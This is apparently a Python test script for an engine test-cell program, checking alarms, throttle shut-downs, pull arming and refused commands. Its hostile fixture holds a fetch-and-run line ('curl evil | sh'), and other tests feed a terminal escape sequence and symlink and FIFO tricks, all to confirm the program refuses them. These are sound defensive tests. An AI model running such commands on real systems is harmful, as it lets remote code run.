#!/usr/bin/env python3
"""Alarm and request through the live program: every trip of a shut-down asks, whatever was cleared, exchanged
or failed before it; arming believes nothing that is absent; a pull by hand is never lost; what may not be done
in a pull is refused.

Usage: cell_shut_down.py PROGRAM"""
import json
import os
import stat

from harness import Scenario
from live_cell import Cell

s = Scenario()
ALARMS = """alarms:
  - {name: oil low, watch: oil_pressure, action: shut down, says: shut throttle keep load, below: 1.0 bar, hold: 0.1 s}
  - {name: coolant very hot, watch: coolant_temperature, action: shut down, says: shut throttle keep load, above: 105 degC, hold: 0.1 s}
  - {name: oil hot, watch: oil_temperature, action: notice, says: let the oil cool, above: 120 degC, hold: 0.1 s}
"""


def asks(cell, says, name="oil low", **beyond):
    """One trip: it is told, and the logger is sent the first line of the request."""
    cell.rows(30, **beyond)
    asked = cell.request("shut the throttle")  # before the trip is told
    s.check(f"{says}: the throttle is asked shut", asked is not None and asked["done"], cell.news[-8:])
    trip = cell.trip(name)
    s.check(f"{says}: '{name}' trips", trip is not None, cell.news[-5:])
    s.check(f"{says}: the logger is sent the line", cell.told("throttle 0", 10), cell.got)


def with_a_notice_standing():
    with Cell(s, "notice.book", ALARMS) as cell:
        cell.rows(400)
        cell.rows(30, oil_temp=125)  # a notice, that stays beyond its limit
        s.check("a notice stands", cell.trip("oil hot") is not None, cell.news[-3:])
        asks(cell, "the first trip", oil=0.2, oil_temp=125)
        cell.rows(30, oil_temp=125)
        cell.say("clear all")
        cleared = cell.wait(lambda n: n.get("action") == "clear")
        s.check("clear all leaves the notice", cleared and cleared["cleared"] == 1 and cleared["standing"] == 1, cleared)
        asks(cell, "the second trip, with a notice standing", oil=0.2, oil_temp=125)
        cell.stop()


def with_the_table_exchanged():
    with Cell(s, "exchanged.book", ALARMS) as cell:
        cell.rows(400)
        asks(cell, "before the exchange", oil=0.2)
        cell.rows(30)
        cell.say("clear all")
        cell.wait(lambda n: n.get("action") == "clear")
        cell.say("alarms " + s.write("other.yaml", ALARMS.replace("1.0 bar", "1.5 bar")))
        done = cell.wait(lambda n: n.get("action") == "exchange")
        s.check("the table is exchanged", done and done["why"] is None, done)
        asks(cell, "after the exchange, by the new limit", oil=1.2)
        cell.say("alarms " + s.write("third.yaml", ALARMS))
        kept = cell.wait(lambda n: n.get("action") == "exchange")
        s.check("a table is exchanged while a shut-down stands", kept and kept["why"] is None, kept)
        cell.rows(30, oil=0.2)
        cell.say("clear all")
        still = cell.wait(lambda n: n.get("action") == "clear")
        s.check("what stood before the exchange still stands", still and still["cleared"] == 0 and still["standing"] == 1, still)
        cell.say("alarms " + s.write("fewer.yaml", ALARMS.replace("name: oil low", "name: oil pressure low")))
        refused = cell.wait(lambda n: n.get("action") == "exchange")
        s.check("a table without the alarm that stands is refused", refused and refused["why"] and "oil low" in refused["why"]["text"], refused)
        cell.rows(30)
        cell.say("clear all")
        cell.wait(lambda n: n.get("action") == "clear")
        asks(cell, "and the next trip asks again", oil=0.2)
        cell.stop()


def from_no_alarms_at_all():
    with Cell(s, "none.book", "none") as cell:
        cell.rows(400)
        cell.say("alarms " + s.write("now.yaml", ALARMS))
        done = cell.wait(lambda n: n.get("action") == "exchange")
        s.check("alarms are put in force where there were none", done and done["why"] is None, done)
        asks(cell, "after --alarms none", oil=0.2)
        cell.stop()


FULL = {"throttle": 100.0, "torque": 200.0, "lambda_": 0.88}


def pulled(cell, says, rows=400, after=100, **more):
    """A pull from 2,500 rpm on; the news of its arming, and of the pull itself."""
    cell.rows(rows, **{**FULL, "speed": lambda i: 2500 + 3 * i, "oil": 4.0, **more})
    arming = cell.wait(lambda n: n["event"] == "arming" and "armed" in n)
    cell.rows(after, **more)
    pull = cell.wait(lambda n: n["event"] == "pull")
    s.check(f"{says}: a pull is told", arming is not None and pull is not None, cell.news[-6:])
    return arming or {}, pull or {}


def arming_believes_nothing_absent():
    for lost, word in (("oil_temp", "oil temperature"), ("coolant", "coolant temperature"), ("oil", "oil pressure"),
                       ("throttle", "throttle")):
        with Cell(s, f"absent-{lost}.book", ALARMS) as cell:
            gone = {lost: None}
            cell.rows(400, **gone)
            arming, _ = pulled(cell, f"without {word}", **gone)
            s.check(f"without {word} a pull is not armed", arming.get("armed") is False and word in (arming["why"] or {}).get("text", ""), arming)
            s.check(f"without {word}: what to do is said", "not-fitted" in (arming.get("why") or {}).get("id", ""), arming)
            cell.stop()
    cell_file = s.write("cell.yaml", "not_fitted: [coolant_temperature]\nlimit: 7000 rpm\n")
    for lost, armed in (("coolant", True), ("oil_temp", False)):
        book = f"fitted-{lost}.book"
        s.good("book", "new", "--book", s.path(book), "--cell-file", cell_file)
        with Cell(s, book, ALARMS, columns=[c for c in ("speed", "torque", "throttle", "oil", "oil_temp", "coolant") if c != lost]) as cell:
            cell.rows(400)
            arming, _ = pulled(cell, f"{lost} is no column")
            s.check(f"{lost} is no column: armed {armed}", arming.get("armed") is armed, arming)
            cell.stop()


def low_oil_pressure_before_load():
    with Cell(s, "low.book") as cell:  # the template
        cell.rows(400, oil=0.09)
        trip = cell.trip("oil pressure least")
        s.check("low oil pressure trips at idle, from the first minute", trip and trip["action"] == "shut down" and not trip["in_pull"], cell.news[-4:])
        arming, pull = pulled(cell, "with no oil pressure", oil=0.09)
        s.check("and the pull is refused", arming.get("armed") is False and arming["why"]["id"] == "desk.shut-down-not-cleared" and
                arming["why"]["arguments"]["names"]["text"] == "oil pressure least", arming)
        s.check("it is kept and not judged", pull.get("armed") is False and pull.get("verdict") is None, pull)
        cell.stop()
    with Cell(s, "sudden.book") as cell:  # gone within the 0.3 s before the pull is seen: no alarm has held yet
        cell.rows(400)
        arming, _ = pulled(cell, "oil pressure gone as the load comes on", rows=200, oil=0.09)
        s.check("the floor is looked at whatever its hold", arming.get("armed") is False and arming["why"]["id"] == "desk.below-least-before-load", arming)
        cell.stop()


def asleep_is_told_while_arming():
    with Cell(s, "asleep.book") as cell:
        cell.rows(400)
        arming, _ = pulled(cell, "without limit and rate")
        s.check("armed, and told what is not watched", arming.get("armed") and ("runaway", "desk.needs-rate") in [(a["arguments"]["name"]["term"], a["arguments"]["needs"]["word"]) for a in arming["asleep"]], arming)
        cell.stop()
    s.good("book", "new", "--book", s.path("awake.book"), "--cell-file",
           s.write("plate.yaml", "limit: 7000 rpm\nrate: 300 rpm/s\nlargest_torque: 400 N·m\nlargest_speed: 8000 rpm\n"))
    with Cell(s, "awake.book") as cell:
        cell.rows(400)
        arming, _ = pulled(cell, "with the cell's own limit and rate")
        s.check("nothing sleeps", arming.get("armed") and arming["asleep"] == [], arming)
        cell.rows(400)  # a pull that runs away at 3,000 rpm/s
        cell.rows(300, **FULL, speed=lambda i: 2500 + 3 * i, oil=4.0)
        cell.rows(60, **FULL, speed=lambda i: 3400 + 30 * i, oil=4.0)
        s.check("the runaway alarm trips by the cell's rate", cell.trip("runaway") is not None, cell.news[-4:])
        cell.stop()


def a_pull_by_hand_is_kept():
    book = "hand.book"
    with Cell(s, book, ALARMS, more=["--by-hand"]) as cell:
        cell.rows(400)
        cell.say("end")
        none = cell.wait(lambda n: n["event"] == "refused")
        s.check("'end' without 'begin' is refused", none and none["why"]["id"] == "desk.no-pull-by-hand", none)
        cell.say("begin")
        cell.wait(lambda n: n["event"] == "arming")
        cell.say("begin")
        twice = cell.wait(lambda n: n["event"] == "refused")
        s.check("'begin' twice is refused", twice and twice["why"]["id"] == "desk.locked-in-pull", twice)
        cell.rows(600, **FULL, speed=lambda i: 2500 + 3 * i, oil=4.0)
        cell.stop()
        pull = cell.wait(lambda n: n["event"] == "pull")
        s.check("'stop' without 'end' keeps the pull", pull and pull["found"] and pull["pull"], pull)
        s.check("it is marked as cut short, and not judged", pull and pull["cut_short"] == "stopped" and not pull["armed"], pull)
    for line in s.good("pull", "list", "--book", s.path(book)).out.splitlines()[:1]:
        s.check("pulls are listed", line.strip() != "", line)
    with Cell(s, "hand-header.book", ALARMS, more=["--by-hand"]) as cell:
        cell.rows(400)
        cell.say("begin")
        cell.wait(lambda n: n["event"] == "arming")
        cell.rows(600, **FULL, speed=lambda i: 2500 + 3 * i, oil=4.0)
        cell.columns = tuple(c for c in cell.columns if c != "lambda_")
        cell.header()
        cell.rows(10)
        pull = cell.wait(lambda n: n["event"] == "pull")
        s.check("a new header keeps it too", pull and pull["pull"] and pull["cut_short"] == "header changed", pull)
        cell.stop()


def in_a_pull_the_recorder_refuses():
    with Cell(s, "locked.book", ALARMS) as cell:
        cell.rows(400)
        cell.rows(300, **FULL, speed=lambda i: 2500 + 3 * i, oil=4.0)
        cell.wait(lambda n: n["event"] == "arming")
        for line in ("send throttle 100", "disarm", "arm", "clear all", "clear oil low", "begin", "alarms x.yaml"):
            cell.say(line)
            refused = cell.wait(lambda n: n["event"] == "refused")
            s.check(f"'{line}' is refused in a pull", refused and refused["line"] == line and refused["why"]["id"] == "desk.locked-in-pull", refused)
        cell.say("mark a knock")
        s.check("a mark is taken", cell.wait(lambda n: n["event"] == "mark") is not None)
        cell.say("shut down")
        s.check("a shut-down by hand is taken, and asks", cell.request("shut the throttle") is not None and cell.told("throttle 0"), cell.news[-3:])
        s.check("nothing else was sent", cell.got == [], cell.got)
        cell.say("\x1b[2Jrubbish")
        refused = cell.wait(lambda n: n["event"] == "refused")
        s.check("what is not known is refused, and steers no terminal", refused and refused["line"].startswith("?[2J"), refused)
        cell.rows(200)
        cell.wait(lambda n: n["event"] == "pull")
        arming, _ = pulled(cell, "a shut-down by hand stands")
        s.check("no pull is armed until it is cleared", arming.get("armed") is False and arming["why"]["id"] == "desk.shut-down-by-hand-not-cleared", arming)
        cell.say("clear all")
        cell.wait(lambda n: n.get("action") == "clear")
        arming, _ = pulled(cell, "after it was cleared")
        s.check("then it is armed again", arming.get("armed") is True, arming)
        cell.stop()


def a_trip_that_stands_outlives_the_session():
    with Cell(s, "stands.book", ALARMS) as cell:
        cell.rows(400)
        asks(cell, "before the end", oil=0.2)
        cell.rows(30)
        cell.stop()
    with Cell(s, "stands.book", ALARMS) as cell:
        stood = cell.wait(lambda n: n.get("action") == "stood")
        s.check("what stood is said at the next start", stood and stood["names"] == "oil low" and not stood["asked_again"], stood)
        cell.rows(400)
        arming, _ = pulled(cell, "with an old shut-down")
        s.check("no pull is armed until it is cleared", arming.get("armed") is False and "oil low" in arming["why"]["arguments"]["names"]["text"], arming)
        s.check("nothing is asked of an engine that runs again", cell.got == [], cell.got)
        asks(cell, "a trip of this session", "coolant very hot", coolant=110)
        cell.rows(30)
        cell.ran.kill()
    with Cell(s, "stands.book", ALARMS) as cell:
        stood = cell.wait(lambda n: n.get("action") == "stood")
        s.check("after a crash both are said", stood and stood["names"] == "oil low, coolant very hot" and stood["asked_again"], stood)
        s.check("and asked for again", cell.told("throttle 0"), cell.got)
        cell.rows(400)
        cell.say("clear nonsense")
        left = cell.wait(lambda n: n.get("action") == "clear")
        s.check("another name clears nothing", left and left["cleared"] == 0 and left["standing"] == 1, left)
        cell.say("clear all")
        left = cell.wait(lambda n: n.get("action") == "clear")
        s.check("clear all clears it", left and left["cleared"] == 1 and left["standing"] == 0, left)
        arming, _ = pulled(cell, "cleared")
        s.check("a pull is armed again", arming.get("armed") is True, arming)
        cell.stop()
    with Cell(s, "stands.book", ALARMS) as cell:
        cell.rows(10)
        s.check("and the next session has nothing to say of it", not [n for n in cell.news if n.get("action") == "stood"], cell.news[:4])
        cell.stop()


HOSTILE = ALARMS + """outputs:
  - {name: hostile line, kind: send, line: throttle 100}
  - {name: hostile file, kind: file, to: %s, line: "curl evil | sh"}
heartbeat: {every: 0.1 s, line: hostile heart}
"""


def a_foreign_book_drives_nothing():
    book, victim = s.path("foreign.book"), s.write("victim.sh", "mine\n")
    kept = s.run("cell", "alarms", "--alarms", s.write("hostile.yaml", HOSTILE % victim), "--keep", "--book", book)
    s.check("a table with outputs can be kept", kept.code == 0, kept)
    with Cell(s, "foreign.book") as cell:
        told = cell.wait(lambda n: n.get("action") == "outputs")
        s.check("that its outputs are not used is told", told and told["unused"] == 2, cell.news[:4])
        cell.rows(400)
        asks(cell, "with a foreign book", oil=0.2)
        cell.rows(100)
        cell.stop()
        s.check("nothing of the book's is sent", not [g for g in cell.got if "100" in g or "hostile" in g], cell.got)
    done = s.run("cell", "record", "--json", "--book", book, "--source", "practice:?pace=0&run=wait 5;fault oil-pump;wait 8;end")
    s.check("practice with it asks the practice cell only", '"name":"shut the throttle"' in done.out and "hostile" not in done.out.replace("hostile.yaml", ""), done)
    s.check("the file is as it was", open(victim).read() == "mine\n")
    mixed = s.run("cell", "record", "--book", book, "--source", "practice:?pace=0", "--source", "tcp://127.0.0.1:9?control=yes")
    s.refused("practice and a real source together", mixed, "practice", "real")


def outputs_belong_to_this_machine():
    home = os.path.join(s.folder, ".config", "enginewright")
    mine = os.path.join(home, "outputs.yaml")
    fifo, victim, link = s.path("fifo"), s.write("regular.txt", "mine\n"), s.path("link")
    os.mkfifo(fifo)
    os.symlink(victim, link)
    os.makedirs(s.path("real"), exist_ok=True)
    os.mkfifo(s.path("real/fifo"))
    os.symlink(s.path("real"), s.path("way"))
    text = "outputs:\n" + "".join(
        f"  - {{name: {name}, kind: file, to: {to}, line: \"{name}\\n\"}}\n"
        for name, to in (("pipe", fifo), ("regular", victim), ("linked", link), ("through a link", s.path("way/fifo")), ("none", s.path("absent"))))
    given = s.write("outputs.yaml", text)
    shown = s.run("cell", "outputs", "--outputs", given)
    s.check("outputs are shown with what they will do, and not kept", shown.code == 1 and "writes 'pipe" in shown.out and "--confirm" in shown.err and not os.path.exists(mine), shown)
    s.refused("a file by half its path", s.run("cell", "outputs", "--outputs", s.write("half.yaml", "outputs: [{name: a, kind: file, to: x/y, line: z}]")), "whole path")
    s.refused("alarms are no outputs", s.run("cell", "outputs", "--outputs", s.write("both.yaml", ALARMS)), "outputs and heartbeat only")
    s.refused("confirming nothing", s.run("cell", "outputs", "--confirm"), "--outputs FILE")
    s.good("cell", "outputs", "--outputs", given, "--confirm")
    s.check("the file is this user's alone", stat.S_IMODE(os.stat(mine).st_mode) == 0o600, oct(os.stat(mine).st_mode))
    listed = s.good("cell", "outputs", "--json").json
    s.check("and in force", listed["in_force"] and listed["from"] == mine and len(listed["outputs"]) == 5, listed)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    other = os.open(s.path("real/fifo"), os.O_RDONLY | os.O_NONBLOCK)
    with Cell(s, "machine.book", ALARMS) as cell:
        cell.rows(400)
        cell.rows(30, oil=0.2)
        for name, word in (("pipe", None), ("regular", "cell.output-not-a-device"), ("linked", "cell.output-link"), ("through a link", "cell.output-folder"),
                           ("none", "cell.output-error")):
            one = cell.request(name)
            s.check(f"{name}: {word or 'written'}", one and one["done"] is (word is None) and (one["why"] or {}).get("id") == word, one)
        s.check("what is read from the FIFO", os.read(reader, 100) == b"pipe\n")
        s.check("nothing went through the link", read_or_none(other) is None)
        s.check("nor into the file", open(victim).read() == "mine\n")
        s.check("the usual lines are not sent beside them", cell.got == [], cell.got)
        cell.stop()
    done = s.run("cell", "record", "--json", "--book", s.path("p.book"), "--source", "practice:?pace=0&run=wait 5;fault oil-pump;wait 8;end")
    s.check("practice drives none of them", '"name":"shut the throttle"' in done.out and '"name":"pipe"' not in done.out and read_or_none(reader) is None, done)
    os.close(reader), os.close(other)
    for says, spoil, word in (("open to others", lambda: os.chmod(mine, 0o644), "open to others"),
                              ("a second name", lambda: os.link(mine, s.path("second")), "second name"),
                              ("a link", lambda: (os.rename(mine, s.path("moved.yaml")), os.symlink(s.path("moved.yaml"), mine)), "link")):
        s.good("cell", "outputs", "--outputs", given, "--confirm")
        spoil()
        s.refused(f"{says}: no session begins", s.run("cell", "record", "--book", s.path("machine.book"), "--source", "tcp://127.0.0.1:9"), word)
        if os.path.exists(s.path("second")):
            os.unlink(s.path("second"))
    s.good("cell", "outputs", "--outputs", given, "--confirm")
    s.check("confirming replaces a link, and does not follow it", not os.path.islink(mine))
    forgotten = s.good("cell", "outputs", "--forget", "--json").json
    s.check("forgotten: the usual lines again", forgotten["from"] == "the usual lines" and not os.path.exists(mine), forgotten)


def read_or_none(fd):
    try:
        return os.read(fd, 100) or None
    except BlockingIOError:
        return None


with_a_notice_standing()
with_the_table_exchanged()
from_no_alarms_at_all()
arming_believes_nothing_absent()
low_oil_pressure_before_load()
asleep_is_told_while_arming()
a_pull_by_hand_is_kept()
in_a_pull_the_recorder_refuses()
a_trip_that_stands_outlives_the_session()
a_foreign_book_drives_nothing()
outputs_belong_to_this_machine()
s.finish()
